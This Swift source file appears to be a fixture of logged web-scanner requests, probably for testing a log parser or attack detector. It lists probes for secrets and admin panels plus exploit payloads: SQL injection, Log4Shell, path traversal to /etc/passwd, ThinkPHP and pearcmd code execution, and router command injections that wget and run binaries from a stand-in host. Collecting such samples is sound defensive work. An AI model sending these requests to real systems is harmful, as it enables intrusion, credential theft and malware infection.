/// Requests that look for holes, as scanners send them and servers write them down.
enum Attacks {
  /// Targets asked for with GET.
  static let gets: [String] = #"""
    /wp-login.php
    /wp-admin/setup-config.php
    /wp-admin/install.php
    /wp-content/plugins/hellopress/wp_filemanager.php
    /wp-includes/wlwmanifest.xml
    /blog/wp-includes/wlwmanifest.xml
    /wordpress/wp-includes/wlwmanifest.xml
    /xmlrpc.php?rsd
    /.env
    /.env.production
    /api/.env
    /app/.env.local
    /.git/config
    /.git/HEAD
    /.aws/credentials
    /.ssh/id_rsa
    /.vscode/sftp.json
    /.DS_Store
    /config.json
    /config/database.yml
    /phpinfo.php
    /info.php
    /test.php
    /shell.php
    /alfa.php
    /wso.php
    /c99.php
    /adminer.php
    /phpmyadmin/index.php?lang=en
    /pma/index.php
    /mysql/admin/index.php
    /administrator/index.php
    /admin/login.php
    /manager/html
    /solr/admin/info/system?wt=json
    /actuator/health
    /actuator/env
    /actuator/gateway/routes
    /server-status
    /owa/auth/logon.aspx
    /ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application
    /remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession
    /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php
    /lib/phpunit/phpunit/src/Util/PHP/eval-stdin.php
    /laravel/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php
    /index.php?s=/Index/\x5Cthink\x5Capp/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP21
    /index.php?lang=../../../../../../../../usr/local/lib/php/pearcmd&+config-create+/&/<?echo(md5(\x22hi\x22));?>+/tmp/index1.php
    /index.php?id=1%27%20UNION%20SELECT%201,2,concat(user(),0x3a,version())--%20-
    /news/?id=-1%20OR%201=1%20ORDER%20BY%201--
    /shop/item?id=12%27%20AND%20SLEEP(5)--%20
    /search?q=%3Cscript%3Ealert(1)%3C/script%3E
    /search?q=%24%7Bjndi%3Aldap%3A%2F%2F240.0.0.1%2Fa%7D
    /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E%60cd+/tmp;+rm+-rf+shk;+sh+shk%60)
    /cgi-bin/.%2e/.%2e/.%2e/.%2e/.%2e/.%2e/etc/passwd
    /cgi-bin/authLogin.cgi
    /shell?cd+/tmp;rm+-rf+*;wget+http://240.12.9.7/jaws;sh+/tmp/jaws
    /boaform/admin/formLogin?username=admin&psd=admin
    /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://240.12.9.7:8080/m+-O+/tmp/n;sh+n&curpath=/&currentsetting.htm=1
    /HNAP1/
    /goform/set_LimitClient_cfg
    /autodiscover/autodiscover.json?@zdi/Powershell
    /..%2f..%2f..%2f..%2fetc%2fpasswd
    /static/../../../../etc/passwd
    /%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd
    /backup.zip
    /backup.sql
    /dump.sql.gz
    /www.example.com.tar.gz
    /old/
    /new/
    /test/
    /dev/
    /console/
    /telescope/requests
    /debug/default/view?panel=config
    /_ignition/execute-solution
    /jenkins/login
    /geoserver/web/
    /nacos/v1/auth/users?pageNo=1&pageSize=9
    /druid/index.html
    /v2/_catalog
    /sdk
    /evox/about
    /nmaplowercheck1731970000
    /ads.txt
    /sitemap.xml
    /security.txt
    /favicon.ico
    """#.split(separator: "\n").map { String($0.drop { $0 == " " }) }

  /// Targets that are sent something with POST.
  static let posts: [String] = [
    "/wp-login.php", "/xmlrpc.php", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
    "/hello.world?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input",
    "/goform/set_LimitClient_cfg", "/cgi-bin/ViewLog.asp", "/GponForm/diag_Form?images/",
    "/api/jsonws/invoke", "/_ignition/execute-solution",
  ]

  /// What stands where a request should: other protocols, or nothing.
  static let noRequests: [String] = [
    "-", "-", "-", #"\x16\x03\x01\x02\x00\x01\x00\x01\xFC\x03\x03"#,
    #"\x16\x03\x01\x00\xEE\x01\x00\x00\xEA\x03\x03\xB4q\xC9\x1F"#,
    #"\x16\x03\x01\x00{\x01\x00\x00w\x03\x03"#,
    #"\x03\x00\x00/*\xE0\x00\x00\x00\x00\x00Cookie: mstshash=Administr"#,
    "SSH-2.0-Go", "MGLNDD_240.17.4.9_443", #"\x00\x00\x00\x85\xFFSMBr"#, "t3 12.2.1", "",
  ]

  /// Lines that are no lines of the log's format: cut off, or something else's.
  static let brokenLines: [String] = [
    #"240.77.12.9 - - [19/Nov/2026:03:1"#, "", #"240.3.200.14"#,
    #"2026/11/19 04:12:07 [error] 812#812: *40112 upstream timed out (110: Connection timed out)"#,
    #"- - - - -"#, #"240.77.12.9 - - "GET / HTTP/1.1" 200 512"#,
    "\u{0}\u{0}\u{0}\u{0}\u{0}\u{0}\u{0}\u{0}",
    #"GET /assets/site.css HTTP/1.1" 200 5120 "-" "-""#, "\u{FFFD}\u{FFFD}\u{FFFD} \u{FFFD}",
  ]
}
